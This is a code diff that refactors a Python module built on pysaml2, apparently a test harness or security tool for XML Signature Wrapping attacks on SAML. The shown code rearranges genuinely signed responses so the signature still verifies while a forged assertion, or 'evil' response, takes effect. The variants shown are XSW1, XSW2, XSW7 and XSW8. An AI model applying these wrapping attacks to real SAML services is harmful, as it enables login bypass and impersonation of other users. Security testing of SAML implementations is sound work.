@@ -17,11 +17,10 @@ from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import rsa
 from cryptography.x509.oid import NameOID
 from saml2 import BINDING_HTTP_REDIRECT, samlp
+from saml2.config import IdPConfig
 from saml2.metadata import entity_descriptor
-from saml2.s_utils import factory
 from saml2.saml import NAMEID_FORMAT_EMAILADDRESS, NameID
 from saml2.samlp import STATUS_SUCCESS
-from saml2.config import IdPConfig
 from saml2.server import Server
 from saml2.sigver import pre_signature_part
 from saml2.xmldsig import DIGEST_SHA1, DIGEST_SHA256, SIG_RSA_SHA1, SIG_RSA_SHA256
@@ -213,6 +212,10 @@ def encode(xml: str | bytes) -> str:
 # --- XML signature wrapping: rearrange a genuinely signed document (string surgery, so the
 # signed bytes stay byte-identical and the signature itself still verifies) ---
 
+DS_OBJECT = '<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">{}</ds:Object>'
+EXTENSIONS = (
+    '<samlp:Extensions xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">{}</samlp:Extensions>'
+)
 _ASSERTION = re.compile(r"<(?P<p>[\w.-]+):Assertion\b.*?</(?P=p):Assertion>", re.S)
 _RESPONSE_SIGNATURE = re.compile(r"<(?P<p>[\w.-]+):Signature\b.*?</(?P=p):Signature>", re.S)
 
@@ -245,7 +248,7 @@ def wrap(xml: str, variant: str, victim: str) -> str:
         evil_head = re.sub(r'ID="[^"]+"', 'ID="_evilresp"', head, count=1)
         sig = signature.group(0)
         sig_close = sig.rfind("</")
-        injected = sig[:sig_close] + f"<ds:Object xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">{hidden}</ds:Object>" + sig[sig_close:]
+        injected = sig[:sig_close] + DS_OBJECT.format(hidden) + sig[sig_close:]
         return evil_head + injected + evil_body
     if variant == "XSW2":  # like XSW1 but the original response detached beside the signature
         signature = _RESPONSE_SIGNATURE.search(body)
@@ -273,16 +276,16 @@ def wrap(xml: str, variant: str, victim: str) -> str:
         unsigned_original = original.replace(signature.group(0), "")
         sig = signature.group(0)
         sig_close = sig.rfind("</")
-        sig_with_object = sig[:sig_close] + f'<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">{unsigned_original}</ds:Object>' + sig[sig_close:]
+        sig_with_object = sig[:sig_close] + DS_OBJECT.format(unsigned_original) + sig[sig_close:]
         return xml.replace(original, evil.replace(">", ">" + sig_with_object, 1))
     if variant == "XSW7":  # signed original hidden in an Extensions element, evil one in view
-        extensions = f'<samlp:Extensions xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">{original}</samlp:Extensions>'
+        extensions = EXTENSIONS.format(original)
         return xml.replace(original, extensions + evil)
     if variant == "XSW8":  # evil assertion whose signature's Object holds the original
         signature = _RESPONSE_SIGNATURE.search(original)
         assert signature
         sig = signature.group(0)
         sig_close = sig.rfind("</")
-        with_object = sig[:sig_close] + f'<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">{original}</ds:Object>' + sig[sig_close:]
+        with_object = sig[:sig_close] + DS_OBJECT.format(original) + sig[sig_close:]
         return xml.replace(original, evil.replace(">", ">" + with_object, 1))
     raise ValueError(variant)
